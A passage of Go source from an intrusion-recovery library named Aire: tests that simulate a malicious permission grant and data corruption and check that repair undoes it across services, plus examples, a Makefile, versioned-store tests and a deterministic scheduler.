		}
		a.Flush()
	}
	if n := a.QueueLen(); n != 1 {
		t.Fatalf("queue length = %d, want 1 (collapsed)", n)
	}
	tb.bus.SetOffline("b", false)
	tb.settle(10)
	if got := string(tb.call("b", get("x")).Body); got != "v3" {
		t.Fatalf("b = %q, want v3 (most recent repair wins)", got)
	}
}

func TestGCMakesRepairPermanentlyUnavailable(t *testing.T) {
	// §9: repairs naming garbage-collected requests are refused with 410
	// and the requesting side notifies its administrator.
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	b := tb.add(&kvApp{name: "b"}, DefaultConfig())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)

	// b garbage-collects everything it has seen so far.
	b.GC(b.Svc.Clock.Now() + 1)

	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	tb.settle(10)

	var gone bool
	for _, n := range a.Notifications() {
		if n.Kind == "gone" && n.Target == "b" {
			gone = true
		}
	}
	if !gone {
		t.Fatalf("expected permanently-unavailable notification, got %+v", a.Notifications())
	}
	if a.QueueLen() != 0 {
		t.Fatal("gone message should be dropped from the queue")
	}
}

func TestBatchIncomingAggregation(t *testing.T) {
	// §3.2: incoming repair messages can be aggregated and applied as one
	// local repair.
	cfg := DefaultConfig()
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	bCfg := cfg
	bCfg.BatchIncoming = true
	b := tb.add(&kvApp{name: "b"}, bCfg)

	at1 := tb.call("a", put("x", "e1"))
	at2 := tb.call("a", put("y", "e2"))
	tb.settle(10)

	a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: at1.Header[wire.HdrRequestID]})
	a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: at2.Header[wire.HdrRequestID]})
	a.Flush()

	if b.InboxLen() != 2 {
		t.Fatalf("inbox = %d, want 2", b.InboxLen())
	}
	// Nothing applied yet.
	if got := string(tb.call("b", get("x")).Body); got != "e1" {
		t.Fatalf("b applied early: %q", got)
	}
	res, err := b.ProcessIncoming()
	if err != nil {
		t.Fatal(err)
	}
	// Both cancelled puts plus the probing get(x) above.
	if res == nil || res.RepairedRequests != 3 {
		t.Fatalf("batched repair result: %+v", res)
	}
	if resp := tb.call("b", get("x")); resp.Status != 404 {
		t.Fatal("batched repair did not apply")
	}
}

func TestExternalEffectCompensation(t *testing.T) {
	// §7.1: the daily email summary cannot be unsent; repair runs a
	// compensating action notifying the admin of the corrected contents.
	tb := newTestbed()
	app := &kvApp{name: "a"}
	a := tb.add(app, DefaultConfig())

	attack := tb.call("a", put("x", "evil"))
	tb.call("a", wire.NewRequest("POST", "/email"))
	if n := len(a.Svc.Outbox()); n != 1 {
		t.Fatalf("outbox = %d", n)
	}

	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	var comp bool
	for _, n := range a.Notifications() {
		if n.Kind == string(warp.NoticeCompensation) && strings.Contains(n.Detail, "daily summary") {
			comp = true
		}
	}
	if !comp {
		t.Fatalf("no compensation notification: %+v", a.Notifications())
	}
	// The effect itself is not re-performed.
	if n := len(a.Svc.Outbox()); n != 1 {
		t.Fatalf("repair re-performed external effect: outbox = %d", n)
	}
}

func TestConfidentialLeakReporting(t *testing.T) {
	// §9 extension: reads of confidential data that disappear under repair
	// are reported as likely leaks.
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a"}, DefaultConfig())

	tb.call("a", put("secret", "s3cr3t"))
	a.Svc.Store.MarkConfidential(kvKey("secret"))

	// Attacker grants themselves a pointer, then reads the secret.
	attack := tb.call("a", put("leak-path", "secret"))
	tb.call("a", get("secret")) // attacker's read — depends on nothing attacker wrote, so model the
	// read as flowing through the attack: reader reads leak-path then secret.
	probe := tb.call("a", wire.NewRequest("GET", "/sum")) // scans, reads secret value
	_ = probe

	// Cancel the attack; /sum re-executes and still reads secret — not a
	// leak. Make a better leak: delete the secret-reading request's cause.
	// Simplest direct check: cancel a request that itself read the secret.
	readReq := tb.call("a", get("secret"))
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: readReq.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	var leak bool
	for _, n := range a.Notifications() {
		if n.Kind == string(warp.NoticeLeak) {
			leak = true
		}
	}
	if !leak {
		t.Fatalf("expected leak notification, got %+v", a.Notifications())
	}
	_ = attack
}

func TestRepairIsRepairable(t *testing.T) {
	// §2.2: repairing an already-repaired request must work (repair updates
	// the log like normal operation does).
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a"}, DefaultConfig())

	bad := tb.call("a", put("x", "v1"))
	tb.call("a", get("x"))

	for i, v := range []string{"v2", "v3", "v4"} {
		if _, err := a.ApplyLocal(warp.Action{
			Kind: warp.ReplaceReq, ReqID: bad.Header[wire.HdrRequestID], NewReq: put("x", v),
		}); err != nil {
			t.Fatalf("repair #%d: %v", i, err)
		}
		if got := string(tb.call("a", get("x")).Body); got != v {
			t.Fatalf("after repair #%d x = %q, want %q", i, got, v)
		}
	}
	// Finally cancel it altogether.
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: bad.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	if resp := tb.call("a", get("x")); resp.Status != 404 {
		t.Fatalf("cancel after repeated replace failed: %d", resp.Status)
	}
}
