package aire_test

import (
	"fmt"

	"aire"
)

// memoApp is a tiny single-model service used by the examples.
type memoApp struct{}

func (memoApp) Name() string                        { return "memo" }
func (memoApp) Authorize(ac aire.AuthzRequest) bool { return ac.Carrier.Header["X-Key"] == "k" }
func (memoApp) Register(svc *aire.Service) {
	svc.Schema.Register("memo")
	svc.Router.Handle("POST", "/set", func(c *aire.Ctx) aire.Response {
		if err := c.DB.Put("memo", "m", aire.Fields("text", c.Form("text"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	})
	svc.Router.Handle("GET", "/get", func(c *aire.Ctx) aire.Response {
		o, ok := c.DB.Get("memo", "m")
		if !ok {
			return c.Error(404, "no memo")
		}
		return c.OK(o.Get("text"))
	})
}

// Example shows the minimal Aire lifecycle: serve traffic, cancel an
// unwanted request, and observe the state roll back.
func Example() {
	bus := aire.NewBus()
	ctrl := aire.NewService(memoApp{}, bus)
	bus.Register("memo", ctrl)

	set := func(text string) aire.Response {
		resp, _ := bus.Call("", "memo", aire.NewRequest("POST", "/set").WithForm("text", text))
		return resp
	}
	get := func() string {
		resp, _ := bus.Call("", "memo", aire.NewRequest("GET", "/get"))
		return string(resp.Body)
	}

	set("ship it friday")
	bad := set("HACKED")
	fmt.Println("before repair:", get())

	ctrl.ApplyLocal(aire.Cancel(bad.Header[aire.HdrRequestID]))
	fmt.Println("after repair: ", get())
	// Output:
	// before repair: HACKED
	// after repair:  ship it friday
}

// ExampleReplace corrects a past request in place: downstream state is
// recomputed as if the corrected request had always executed.
func ExampleReplace() {
	bus := aire.NewBus()
	ctrl := aire.NewService(memoApp{}, bus)
	bus.Register("memo", ctrl)

	resp, _ := bus.Call("", "memo", aire.NewRequest("POST", "/set").WithForm("text", "ship it fridya"))
	ctrl.ApplyLocal(aire.Replace(resp.Header[aire.HdrRequestID],
		aire.NewRequest("POST", "/set").WithForm("text", "ship it friday")))

	out, _ := bus.Call("", "memo", aire.NewRequest("GET", "/get"))
	fmt.Println(string(out.Body))
	// Output: ship it friday
}

// ExampleSettle pumps every controller's outgoing repair queue until
// cross-service repair quiesces.
func ExampleSettle() {
	bus := aire.NewBus()
	ctrl := aire.NewService(memoApp{}, bus)
	bus.Register("memo", ctrl)

	rounds := aire.Settle(10, ctrl)
	fmt.Println("productive rounds with nothing queued:", rounds)
	// Output: productive rounds with nothing queued: 0
}
