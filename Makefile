# Aire — asynchronous intrusion recovery for interconnected web services.
# CI (.github/workflows/ci.yml) runs exactly these targets; run `make ci`
# locally to reproduce the full gate.

GO ?= go

.PHONY: all build test race bench fmt fmt-fix vet ci

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Bench smoke: compile and run every benchmark once (no timing fidelity —
# catches rot, not regressions). Full runs: go test -bench . -benchmem
bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' ./...

fmt:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

fmt-fix:
	gofmt -w .

vet:
	$(GO) vet ./...

ci: fmt vet build test race bench
