package harness

import (
	"strings"
	"testing"

	"aire/internal/apps/crm"
	"aire/internal/apps/permsvc"
	"aire/internal/core"
	"aire/internal/wire"
)

const permAdminToken = "perm-admin"

// introWorld stands up the paper's §1 motivating example: a customer
// management service (Salesforce-like) and an employee management service
// (Workday-like), both pulling permissions from a centralized
// access-control service.
func introWorld(t *testing.T) (*Testbed, *core.Controller) {
	t.Helper()
	tb := NewTestbed()
	perms := tb.Add(permsvc.New(permAdminToken), core.DefaultConfig())
	crmApp := crm.New("perms")
	tb.Add(crmApp, core.DefaultConfig())
	hr := crm.New("perms")
	hr.ServiceName = "workday"
	tb.Add(hr, core.DefaultConfig())
	tb.FreezeTime(1_380_000_000)

	grant := func(svc, user, level string) {
		tb.MustCall("perms", wire.NewRequest("POST", "/grant").
			WithForm("svc", svc, "user", user, "level", level).
			WithHeader("X-Admin-Token", permAdminToken))
	}
	grant("crm", "alice", "rw")
	grant("workday", "alice", "rw")
	grant("crm", "bob", "r")
	return tb, perms
}

// TestIntroScenario reproduces §1 end to end: the attacker gains write
// access through the access-control service, corrupts both dependent
// services, and a single repair of the bad grant unwinds everything —
// propagated purely through replace_response messages, since the
// dependents *pull* permissions per request.
func TestIntroScenario(t *testing.T) {
	tb, perms := introWorld(t)

	// Legitimate records.
	custID := string(tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "ACME Corp", "notes", "renewal due Q3")).Body)
	empID := string(tb.MustCall("workday", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "Jo Engineer", "notes", "L5")).Body)

	// The attack: mallory obtains write grants on both services (the §1
	// "exploits a bug in the access control service" — modeled as the bad
	// grant requests themselves, which repair will cancel).
	g1 := tb.MustCall("perms", wire.NewRequest("POST", "/grant").
		WithForm("svc", "crm", "user", "mallory", "level", "rw").
		WithHeader("X-Admin-Token", permAdminToken))
	g2 := tb.MustCall("perms", wire.NewRequest("POST", "/grant").
		WithForm("svc", "workday", "user", "mallory", "level", "rw").
		WithHeader("X-Admin-Token", permAdminToken))

	// Mallory corrupts records on both services.
	tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "id", custID, "name", "ACME Corp", "notes", "OWNED"))
	tb.MustCall("workday", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "id", empID, "name", "Jo Engineer", "notes", "FIRED lol"))
	// And creates a fake customer.
	fakeID := string(tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "name", "Shell Co", "notes", "wire money here")).Body)

	// Interleaved legitimate traffic that must survive.
	tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "id", custID, "name", "ACME Corp", "notes", "renewal due Q3; called them"))

	if got := string(tb.Call("workday", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", empID)).Body); !strings.Contains(got, "FIRED") {
		t.Fatalf("precondition: corruption missing: %q", got)
	}

	// Recovery: the perms administrator cancels the two bad grants.
	for _, g := range []wire.Response{g1, g2} {
		if _, err := perms.ApplyLocal(cancelAction(g.Header[wire.HdrRequestID])); err != nil {
			t.Fatal(err)
		}
	}
	tb.Settle(30)

	// Corruption gone everywhere; legitimate edits preserved.
	if got := string(tb.Call("crm", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", custID)).Body); !strings.Contains(got, "called them") {
		t.Fatalf("crm legitimate edit lost: %q", got)
	}
	if got := string(tb.Call("workday", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", empID)).Body); strings.Contains(got, "FIRED") {
		t.Fatalf("workday still corrupted: %q", got)
	}
	if resp := tb.Call("crm", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", fakeID)); resp.Status != 404 {
		t.Fatalf("fake customer survived: %d %q", resp.Status, resp.Body)
	}
	// Mallory has no access anymore.
	if resp := tb.Call("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "name", "again")); resp.OK() {
		t.Fatal("mallory still has write access")
	}
	// The repair reached the dependents via replace_response (no repair
	// calls ever target crm/workday requests directly in this scenario).
	for _, svc := range []string{"crm", "workday"} {
		if tb.Ctrls[svc].Stats().RepairsRun == 0 {
			t.Fatalf("%s never repaired", svc)
		}
	}
}

// TestIntroScenarioDependentOffline repairs the grants while the CRM is
// down: the perm service and Workday recover immediately; the CRM catches
// up when it returns (§3's asynchrony on the pull path).
func TestIntroScenarioDependentOffline(t *testing.T) {
	tb, perms := introWorld(t)
	custID := string(tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "ACME", "notes", "ok")).Body)
	g := tb.MustCall("perms", wire.NewRequest("POST", "/grant").
		WithForm("svc", "crm", "user", "mallory", "level", "rw").
		WithHeader("X-Admin-Token", permAdminToken))
	tb.MustCall("crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "id", custID, "name", "ACME", "notes", "OWNED"))

	tb.SetOffline("crm", true)
	if _, err := perms.ApplyLocal(cancelAction(g.Header[wire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}
	tb.Settle(2)
	// The grant is gone centrally even though the CRM hasn't heard yet.
	if got := string(tb.Call("perms", wire.NewRequest("GET", "/check").
		WithForm("svc", "crm", "user", "mallory")).Body); got != "" {
		t.Fatalf("grant survived on perms: %q", got)
	}
	if perms.QueueLen() == 0 {
		t.Fatal("replace_response for crm should be queued")
	}

	tb.SetOffline("crm", false)
	tb.Settle(20)
	if got := string(tb.Call("crm", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", custID)).Body); strings.Contains(got, "OWNED") {
		t.Fatalf("crm still corrupted after catching up: %q", got)
	}
}
