package vdb

import (
	"fmt"
	"testing"
	"testing/quick"
)

func fields(v string) map[string]string { return map[string]string{"val": v} }

func TestPutGetLatest(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	if err := s.Put(k, fields("a"), 10, "r1"); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(k, fields("b"), 20, "r2"); err != nil {
		t.Fatal(err)
	}
	v, ok := s.Get(k)
	if !ok || v.Fields["val"] != "b" {
		t.Fatalf("Get = %+v, %v; want b", v, ok)
	}
}

func TestGetAtTimeTravel(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Put(k, fields("b"), 20, "r2")
	for _, tc := range []struct {
		ts   int64
		want string
		ok   bool
	}{{5, "", false}, {10, "a", true}, {15, "a", true}, {20, "b", true}, {99, "b", true}} {
		v, ok := s.GetAt(k, tc.ts)
		if ok != tc.ok || (ok && v.Fields["val"] != tc.want) {
			t.Fatalf("GetAt(%d) = %+v, %v; want %q, %v", tc.ts, v, ok, tc.want, tc.ok)
		}
	}
}

func TestDeleteTombstone(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Delete(k, 20, "r2")
	if _, ok := s.Get(k); ok {
		t.Fatal("deleted object still visible at latest")
	}
	if _, ok := s.GetAt(k, 15); !ok {
		t.Fatal("object must remain visible before deletion")
	}
	if h := s.HashAt(k, 25); h != MissingHash {
		t.Fatalf("deleted object HashAt = %d, want MissingHash", h)
	}
}

func TestWriteIntoPastRejected(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 20, "r1")
	if err := s.Put(k, fields("b"), 10, "r2"); err == nil {
		t.Fatal("write into the past must fail")
	}
}

func TestSameRequestCoalesces(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Put(k, fields("b"), 10, "r1")
	if n := len(s.Versions(k)); n != 1 {
		t.Fatalf("same-request writes must coalesce, have %d versions", n)
	}
	v, _ := s.Get(k)
	if v.Fields["val"] != "b" {
		t.Fatal("last write within request must win")
	}
}

func TestConflictingWritesSameTS(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	if err := s.Put(k, fields("b"), 10, "r2"); err == nil {
		t.Fatal("two requests writing at the same timestamp must conflict")
	}
}

func TestRollback(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	s.Put(k, fields("b"), 20, "r2")
	s.Put(k, fields("c"), 30, "r3")
	if n := s.Rollback(k, 15); n != 2 {
		t.Fatalf("Rollback removed %d versions, want 2", n)
	}
	v, ok := s.Get(k)
	if !ok || v.Fields["val"] != "a" {
		t.Fatalf("after rollback Get = %+v", v)
	}
	// Rolling back to before everything removes the key entirely.
	if n := s.Rollback(k, 5); n != 1 {
		t.Fatalf("final rollback removed %d, want 1", n)
	}
	if _, ok := s.Get(k); ok {
		t.Fatal("fully rolled-back object should not exist")
	}
	if s.ObjectCount() != 0 {
		t.Fatal("fully rolled-back key should be dropped from the store")
	}
}

func TestHasVersion(t *testing.T) {
	s := NewStore()
	k := Key{Model: "kv", ID: "x"}
	s.Put(k, fields("a"), 10, "r1")
	if !s.HasVersion(k, 10, "r1") {
		t.Fatal("existing version not found")
	}
	if s.HasVersion(k, 10, "r2") || s.HasVersion(k, 11, "r1") {
		t.Fatal("HasVersion matched wrong version")
	}
	s.Rollback(k, 5)
	if s.HasVersion(k, 10, "r1") {
		t.Fatal("rolled-back version still reported")
	}
}

func TestImmutableSurvivesRollback(t *testing.T) {
	s := NewStore()
	k := Key{Model: "ver", ID: "v1"}
	if err := s.PutImmutable(k, fields("a"), 10, "r1"); err != nil {
		t.Fatal(err)
	}
	if n := s.Rollback(k, 0); n != 0 {
		t.Fatal("immutable object must survive rollback")
	}
	if _, ok := s.Get(k); !ok {
		t.Fatal("immutable object missing after rollback")
	}
	// Idempotent re-put with identical fields is fine (replay).
	if err := s.PutImmutable(k, fields("a"), 99, "r9"); err != nil {
		t.Fatal(err)
	}
	// Different value is an application bug.
	if err := s.PutImmutable(k, fields("z"), 99, "r9"); err == nil {
		t.Fatal("conflicting immutable put must fail")
	}
	// Mutable writes to an immutable object must fail.
	if err := s.Put(k, fields("z"), 99, "r9"); err == nil {
		t.Fatal("mutable overwrite of immutable object must fail")
	}
}

func TestIDsAndIDsAt(t *testing.T) {
	s := NewStore()
	s.Put(Key{"kv", "a"}, fields("1"), 10, "r1")
	s.Put(Key{"kv", "b"}, fields("2"), 20, "r2")
	s.Delete(Key{"kv", "a"}, 30, "r3")
	s.Put(Key{"other", "z"}, fields("9"), 10, "r1")

	if got := s.IDs("kv"); len(got) != 1 || got[0] != "b" {
		t.Fatalf("IDs = %v, want [b]", got)
	}
	if got := s.IDsAt("kv", 25); len(got) != 2 {
		t.Fatalf("IDsAt(25) = %v, want [a b]", got)
	}
	if got := s.IDsAt("kv", 15); len(got) != 1 || got[0] != "a" {
		t.Fatalf("IDsAt(15) = %v, want [a]", got)
	}
}

func TestScanHashChangesWithMembershipAndValue(t *testing.T) {
	s := NewStore()
	s.Put(Key{"kv", "a"}, fields("1"), 10, "r1")
	h1 := s.ScanHashAt("kv", 100)
	s.Put(Key{"kv", "b"}, fields("2"), 20, "r2")
	h2 := s.ScanHashAt("kv", 100)
	if h1 == h2 {
		t.Fatal("membership change must alter scan hash")
	}
	s.Put(Key{"kv", "a"}, fields("9"), 30, "r3")
	h3 := s.ScanHashAt("kv", 100)
	if h2 == h3 {
		t.Fatal("value change must alter scan hash")
	}
	// At a historical timestamp the hash is unaffected by later writes.
	if s.ScanHashAt("kv", 15) != h1 {
		t.Fatal("historical scan hash changed")
	}
}

func TestVersionHashStableAndSensitive(t *testing.T) {
	v1 := Version{Fields: map[string]string{"a": "1", "b": "2"}}
	v2 := Version{Fields: map[string]string{"b": "2", "a": "1"}}
	if v1.Hash() != v2.Hash() {
		t.Fatal("hash must not depend on map order")
	}
	v3 := Version{Fields: map[string]string{"a": "1", "b": "3"}}
	if v1.Hash() == v3.Hash() {
		t.Fatal("hash must reflect values")
	}
	if (Version{Deleted: true}).Hash() != MissingHash {
		t.Fatal("tombstone must hash to MissingHash")
	}
}

func TestConfidentialMarking(t *testing.T) {
	s := NewStore()
	k := Key{"kv", "secret"}
	if s.IsConfidential(k) {
		t.Fatal("unmarked object reported confidential")
	}
	s.MarkConfidential(k)
	if !s.IsConfidential(k) {
		t.Fatal("marked object not reported confidential")
	}
}

func TestGCSquashesOldVersions(t *testing.T) {
	s := NewStore()
	k := Key{"kv", "x"}
	for i := 1; i <= 5; i++ {
		s.Put(k, fields(fmt.Sprint(i)), int64(i*10), fmt.Sprintf("r%d", i))
	}
	s.GC(35)
	vs := s.Versions(k)
	if len(vs) != 3 { // base (ts=30) + 40 + 50
		t.Fatalf("after GC have %d versions, want 3", len(vs))
	}
	if v, ok := s.GetAt(k, 35); !ok || v.Fields["val"] != "3" {
		t.Fatalf("GC must keep a base version; GetAt(35) = %+v %v", v, ok)
	}
	if s.GCBefore() != 35 {
		t.Fatalf("GCBefore = %d", s.GCBefore())
	}
}

func TestVersionBytesAccounting(t *testing.T) {
	s := NewStore()
	if s.VersionBytes() != 0 {
		t.Fatal("fresh store should have zero version bytes")
	}
	s.Put(Key{"kv", "x"}, fields("hello"), 10, "r1")
	if s.VersionBytes() <= 0 {
		t.Fatal("writes must accrue version bytes")
	}
}

func TestGetReturnsCopy(t *testing.T) {
	s := NewStore()
	k := Key{"kv", "x"}
	s.Put(k, fields("a"), 10, "r1")
	v, _ := s.Get(k)
	v.Fields["val"] = "mutated"
	v2, _ := s.Get(k)
	if v2.Fields["val"] != "a" {
		t.Fatal("Get leaked internal state")
	}
}

func TestPropertyRollbackRestoresGetAt(t *testing.T) {
	// Property: for any sequence of writes at increasing timestamps,
	// rolling back to time T makes Get equal GetAt(T) before rollback.
	f := func(vals []uint8, cut uint8) bool {
		if len(vals) == 0 {
			return true
		}
		s := NewStore()
		k := Key{"kv", "x"}
		for i, v := range vals {
			s.Put(k, fields(fmt.Sprint(v)), int64(i+1)*10, fmt.Sprintf("r%d", i))
		}
		cutTS := int64(cut%uint8(len(vals)+1)) * 10
		before, okBefore := s.GetAt(k, cutTS)
		s.Rollback(k, cutTS)
		after, okAfter := s.Get(k)
		if okBefore != okAfter {
			return false
		}
		return !okBefore || before.Fields["val"] == after.Fields["val"]
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
