// Package dsched is a deterministic cooperative scheduler: the simulation
// implementation of internal/sched's Scheduler interface.
//
// Every task runs on a real goroutine, but at most one task executes at a
// time: at each yield point (an explicit Yield, or blocking in a Sem,
// Group, or Pacer) the task hands control back, and a seeded rng picks the
// next runnable task. The whole interleaving — which pump claims first,
// which worker reconciles before which supersede, when a backoff sleep
// elapses — becomes a pure function of the seed, so a schedule that
// exposes a concurrency bug is replayed exactly by re-running the seed.
// Small-step operational semantics is the model: the pump is reduced to
// explicit steps, and the scheduler explores their interleavings.
//
// Time is virtual: blocking primitives never sleep. A Pacer's deadline is
// read from a simnet.Clock, and a task waiting on one simply stays
// unrunnable until the driver advances the clock. When RunUntilIdle
// returns, every live task is parked on an unsatisfied condition (a
// deadline in the virtual future, an empty semaphore, a pending group) —
// the driver then advances the clock, injects workload, or declares the
// system quiesced.
//
// Protocol: driver code (the code calling Step/RunUntilIdle) and task code
// never run concurrently — the scheduler blocks the driver while a task
// runs and blocks every task while the driver runs. Code that executes
// outside any task (the driver) may call Yield freely (it is a no-op
// there), but must not block on a Sem, Group, or Pacer, since no task
// would ever be scheduled to unblock it; those primitives panic instead of
// deadlocking silently.
package dsched

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"aire/internal/sched"
	"aire/internal/simnet"
)

// task is one cooperative task.
type task struct {
	id   int
	name string
	// resume hands control to the task (scheduler → task).
	resume chan struct{}
	// pred, when non-nil, is the task's wake condition, evaluated by the
	// scheduler under its lock; nil means runnable.
	pred func() bool
	// label names the decision point the task parked at (YieldNamed);
	// recorded as "name@label" in the trace when the task next runs.
	label string
	done  bool
}

// Sched is a deterministic cooperative scheduler. Create one with New.
type Sched struct {
	// MaxSteps bounds the total steps a Sched will execute before
	// panicking with the tail of its trace — a livelocked schedule must
	// fail loudly with a reproducible seed, not hang CI. The default set
	// by New is generous; raise it for very long simulations.
	MaxSteps int

	clock *simnet.Clock

	mu      sync.Mutex
	rng     *rand.Rand
	tasks   []*task
	running *task
	nextID  int
	steps   int
	trace   []string
	// yielded signals the driver that the running task parked or finished
	// (task → scheduler).
	yielded chan struct{}
}

var _ sched.Scheduler = (*Sched)(nil)

// New returns a scheduler whose decisions are driven by seed and whose
// virtual time is read from clock.
func New(seed int64, clock *simnet.Clock) *Sched {
	return &Sched{
		MaxSteps: 2_000_000,
		clock:    clock,
		rng:      rand.New(rand.NewSource(seed)),
		yielded:  make(chan struct{}),
	}
}

// Go registers a task. It may be called from the driver or from inside a
// running task; the task does not execute until the scheduler picks it.
func (s *Sched) Go(name string, f func()) {
	s.mu.Lock()
	t := &task{id: s.nextID, name: name, resume: make(chan struct{})}
	s.nextID++
	s.tasks = append(s.tasks, t)
	s.mu.Unlock()
	go func() {
		<-t.resume
		f()
		s.mu.Lock()
		t.done = true
		s.running = nil
		// Compact the finished task out so Step's runnable scan stays
		// O(live tasks): the pump spawns one task per claimed batch, and a
		// long sweep would otherwise scan every task ever spawned. Done
		// tasks were never runnable, so removal cannot shift an rng choice.
		for i, tt := range s.tasks {
			if tt == t {
				s.tasks = append(s.tasks[:i], s.tasks[i+1:]...)
				break
			}
		}
		s.mu.Unlock()
		s.yielded <- struct{}{}
	}()
}

// Yield parks the calling task as immediately runnable, letting the
// scheduler pick any runnable task (possibly the caller again). Outside a
// task it is a no-op.
func (s *Sched) Yield() { s.park(nil) }

// YieldNamed is Yield with a decision-point label: the step that resumes
// the task is traced as "task@label" instead of the bare task name, so
// schedule-exploration tests can assert the scheduler genuinely covers a
// named decision point (e.g. the pump's batch-policy and admission
// choices). Outside a task it is a no-op.
func (s *Sched) YieldNamed(label string) {
	s.mu.Lock()
	t := s.running
	if t != nil {
		t.label = label
	}
	s.mu.Unlock()
	s.park(nil)
}

// park hands control back to the scheduler until pred is true (nil parks
// as runnable). No-op outside a task.
func (s *Sched) park(pred func() bool) {
	s.mu.Lock()
	t := s.running
	if t == nil {
		s.mu.Unlock()
		return
	}
	t.pred = pred
	s.running = nil
	s.mu.Unlock()
	s.yielded <- struct{}{}
	<-t.resume
}

// InTask reports whether the caller is running inside a scheduled task
// (true) or is the driver (false). Driver code uses it to decide between
// yielding and stepping the scheduler when waiting a condition out.
func (s *Sched) InTask() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.running != nil
}

// Step runs one scheduling step: a seeded-random choice among the runnable
// tasks executes until its next yield point (or completion). It reports
// false when no task is runnable — every live task is blocked on an
// unsatisfied condition, or all tasks are done.
func (s *Sched) Step() bool {
	s.mu.Lock()
	var runnable []*task
	for _, t := range s.tasks { // task-id order: the rng choice is stable
		if !t.done && (t.pred == nil || t.pred()) {
			runnable = append(runnable, t)
		}
	}
	if len(runnable) == 0 {
		s.mu.Unlock()
		return false
	}
	t := runnable[s.rng.Intn(len(runnable))]
	t.pred = nil
	s.running = t
	s.steps++
	if s.steps > s.MaxSteps {
		tail := s.trace
		if len(tail) > 40 {
			tail = tail[len(tail)-40:]
		}
		panic(fmt.Sprintf("dsched: exceeded MaxSteps=%d (livelocked schedule?); trace tail: %v", s.MaxSteps, tail))
	}
	entry := t.name
	if t.label != "" {
		entry += "@" + t.label
		t.label = ""
	}
	s.trace = append(s.trace, entry)
	s.mu.Unlock()
	t.resume <- struct{}{}
	<-s.yielded
	return true
}

// RunUntilIdle steps until no task is runnable and returns how many steps
// ran. On return every live task is parked on an unsatisfied condition;
// the driver typically advances the virtual clock or injects new work, and
// calls RunUntilIdle again.
func (s *Sched) RunUntilIdle() int {
	n := 0
	for s.Step() {
		n++
	}
	return n
}

// Steps returns the total number of scheduling steps executed.
func (s *Sched) Steps() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.steps
}

// Trace returns the schedule so far, one task name per step. Two runs of
// the same seed and workload produce identical traces.
func (s *Sched) Trace() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.trace...)
}

// TaskInfo describes one live task for the driver: its ID (Kill's handle),
// its name, and — when it parked at a YieldNamed decision point — the
// label of that point.
type TaskInfo struct {
	ID    int
	Name  string
	Label string
}

// Parked lists every live task that is not running, in task-id order. The
// driver uses it to find a task sitting at a specific yield point (by name
// and label) and Kill it there.
func (s *Sched) Parked() []TaskInfo {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []TaskInfo
	for _, t := range s.tasks {
		if !t.done && t != s.running {
			out = append(out, TaskInfo{ID: t.id, Name: t.name, Label: t.label})
		}
	}
	return out
}

// Kill crash-stops a parked task at its current yield point: the task is
// removed from scheduling and its goroutine is never resumed, so — unlike a
// panic-unwind — none of its deferred cleanup runs. That is the point: Kill
